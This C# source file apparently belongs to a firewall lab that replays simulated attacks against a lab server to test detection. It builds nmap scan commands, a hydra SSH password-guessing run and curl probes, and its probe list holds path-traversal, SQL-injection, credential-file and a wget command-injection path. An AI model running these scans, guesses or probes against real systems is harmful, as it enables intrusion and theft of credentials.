using System.Globalization;
using System.Net;
using System.Net.Sockets;
using Blackwall.Lab.Edge;
using Blackwall.Lab.Network;
using Blackwall.Lab.Story.Scenes.Intrusion;

namespace Blackwall.Lab.Story.Scenes;

/// <summary>The scenes of <c>./blackwall lab</c>, in order. Each attack comes from an address of its own.</summary>
public static class Scenario
{
    private static readonly TimeSpan s_scanLimit = TimeSpan.FromSeconds(45);
    private static readonly TimeSpan s_loginLimit = TimeSpan.FromSeconds(90);

    private static readonly string[] s_probes =
        ["/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/index.php", "/../../../../etc/passwd", "/cgi-bin/luci",
         "/admin/config.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/boaform/admin/formLogin", "/solr/admin/info/system",
         "/actuator/env", "/.aws/credentials", "/?id=1%27%20UNION%20SELECT%201,2,3--", "/shell?cd+/tmp;wget+http://x/y", "/HNAP1/",
         "/server-status", "/backup.sql", "/config.json", "/xmlrpc.php", "/manager/html"];

    /// <param name="transcripts">Folder for what intruders saw; empty: it is not kept.</param>
    public static IReadOnlyList<IScene> Scenes(ApplianceSettings settings, string transcripts = "") =>
    [
        new PeaceScene(settings),

        // Before all others: what the kernel counted ends with the wall.
        new MidStreamScene(settings, 68),
        new TogetherScene(
            "Scans with nmap",
            Scan("SYN scan over IPv4 (nmap -sS)", "-sS", 1, v6: false),
            Scan("SYN scan over IPv6 (nmap -sS)", "-sS", 2, v6: true),
            Scan("Connect scan over IPv4 (nmap -sT)", "-sT", 3, v6: false),
            Scan("Connect scan over IPv6 (nmap -sT)", "-sT", 4, v6: true)),
        new TogetherScene(
            "Stealth scans with nmap",
            Stealth("XMAS scan over IPv4 (nmap -sX)", "-sX", 5, v6: false),
            Stealth("XMAS scan over IPv6 (nmap -sX)", "-sX", 6, v6: true),
            Stealth("NULL scan over IPv4 (nmap -sN)", "-sN", 7, v6: false),
            Stealth("NULL scan over IPv6 (nmap -sN)", "-sN", 8, v6: true),
            Stealth("FIN scan over IPv4 (nmap -sF)", "-sF", 9, v6: false),
            Stealth("FIN scan over IPv6 (nmap -sF)", "-sF", 10, v6: true),
            new StealthScene("SYN scan in tiny fragments (nmap -f)", "cuts the TCP header of each SYN into pieces", async stage => Fragments(await stage.Network.AddGuestAsync(32), stage.Network.Server), "drop-fragment-tiny")),
        new TogetherScene(
            "Scans at other speeds, guessing, and users",
            [
                .. ScanActs.All(11),
                new DistributedScanScene(15, v6: false),
                new DistributedScanScene(16, v6: true),
                .. GuessingActs.All(20),
                new ForgetfulScene(30),
                new MonitorScene(31),
                new AssaultScene("HTTP probing (curl)", "asks the web server for files that only attackers ask for", stage => Task.FromResult(HttpProbing(stage))),
            ]),
        new TogetherScene("Fingerprints", new FingerprintScene(), new TlsStackScene(40)),
        new TogetherScene("In another's name", new ForgedNameScene(60, 61, v6: false), new ForgedNameScene(62, 63, v6: true), new AbsentOwnerScene(64, 65)),
        new TogetherScene("Unusual paths and links", new FastOpenScene(66), new HalfSeenScene(67), new LinkScene(isPppoe: false), new LinkScene(isPppoe: true)),
        new SpoofedFloodScene(v6: false),
        new SpoofedFloodScene(v6: true),
        new FloodScene("SYN", v6: false, 13),
        new FloodScene("SYN", v6: true, 13),
        new FloodScene("UDP", v6: false, 14),
        new FloodScene("UDP", v6: true, 14),
        new FloodScene("ICMP", v6: false, 15),
        new FloodScene("ICMP", v6: true, 15),
        new TogetherScene(
            "From inside, and in slow motion",
            [new InsideScene(50), new DnsTunnelScene(51), new ExfiltrationScene(52), new PingTunnelScene(53), new CipherScene(54), .. SlowActs.All()]),
        new MeshScene(),
        new ModelScene(69),
        new OperatorScene(),
        new LockOutScene(settings),
        new RedirectScene(),
        new ForwardingScene(70),
        new FeedScene(settings, 71),
        new DeceptionScene(),
        new IntrusionScene(transcripts),
        new CrashScene(settings),
        new CleanStopScene(),
    ];

    /// <summary>Those that have a word in their title; of scenes that are played together, only such.</summary>
    public static IEnumerable<IScene> Named(IEnumerable<IScene> scenes, string word) => scenes.SelectMany(scene =>
        scene.Title.Contains(word, StringComparison.OrdinalIgnoreCase) ? [scene]
        : scene is TogetherScene together ? Named(together.Scenes, word)
        : []);

    /// <summary>A port scan with nmap, as a user would type it.</summary>
    public static Assault PortScan(LabHost attacker, LabHost server, string technique, int address, bool v6)
    {
        var source = v6 ? attacker.Addresses6[address] : attacker.Addresses4[address];
        var target = v6 ? server.Addresses6[0] : server.Addresses4[0];
        List<string> command = ["nmap", technique, "-Pn", "-n", "-T4", "--max-retries", "2", "--host-timeout", "60s", "-p", "1-1000", target.ToString()];
        if (v6)
        {
            command.Insert(1, "-6");
        }

        return new Assault(attacker, source, new IPEndPoint(target, 80), [command], s_scanLimit);
    }

    /// <summary>A scan whose packets have impossible flags; only those are counted.</summary>
    public static Assault Stealth(LabHost attacker, LabHost server, string technique, int address, bool v6) =>
        PortScan(attacker, server, technique, address, v6) with
        {
            // tcpdump finds a field of TCP by name only behind IPv4. 0x16: SYN, ACK, RST.
            Counted = v6 ? "ip6 proto 6 and (ip6[53] & 0x16) == 0" : "tcp[tcpflags] & (tcp-syn|tcp-ack|tcp-rst) == 0",
        };

    // nmap cuts so over IPv4 only.
    private static Assault Fragments(LabHost attacker, LabHost server) =>
        PortScan(attacker, server, "-f", 0, v6: false) with { Counted = "ip[6:2] & 0x3fff != 0" };

    private static ScanScene Scan(string title, string technique, int guest, bool v6) => new(
        title,
        "scans the server's first 1000 ports",
        async stage => PortScan(await stage.Network.AddGuestAsync(guest), stage.Network.Server, technique, 0, v6));

    private static StealthScene Stealth(string title, string technique, int guest, bool v6) => new(
        title,
        "sends packets with flags that no stack sends",
        async stage => Stealth(await stage.Network.AddGuestAsync(guest), stage.Network.Server, technique, 0, v6));

    /// <summary>Password guessing with hydra, four at a time.</summary>
    public static Assault BruteForce(Stage stage)
    {
        var list = GuessingActs.WordList(stage);
        var (attacker, server) = (stage.Network.Attacker, stage.Network.Server);
        return new Assault(
            attacker,
            attacker.Addresses4[5],
            new IPEndPoint(server.Addresses4[0], 22),
            [["hydra", "-I", "-l", "root", "-P", list, "-t", "4", "-w", "5", $"ssh://{server.Addresses4[0]}"]],
            s_loginLimit);
    }

    /// <summary>Requests for files that only attackers ask for.</summary>
    public static Assault HttpProbing(Stage stage) => HttpProbing(stage.Network.Attacker, stage.Network.Attacker.Addresses4[6], stage.Network.Server);

    /// <summary>Requests that only attackers send, from an address of the attacker's.</summary>
    public static Assault HttpProbing(LabHost attacker, IPAddress source, LabHost server) => new(
        attacker,
        source,
        new IPEndPoint(server.Addresses4[0], 80),
        [.. s_probes.Select(path => (IReadOnlyList<string>)["curl", "-s", "-o", "/dev/null", "--path-as-is", "--max-time", "2", $"http://{Host(server.Addresses4[0])}{path}"])],
        s_scanLimit);

    private static string Host(IPAddress address) =>
        string.Create(CultureInfo.InvariantCulture, $"{(address.AddressFamily == AddressFamily.InterNetworkV6 ? $"[{address}]" : address)}");
}
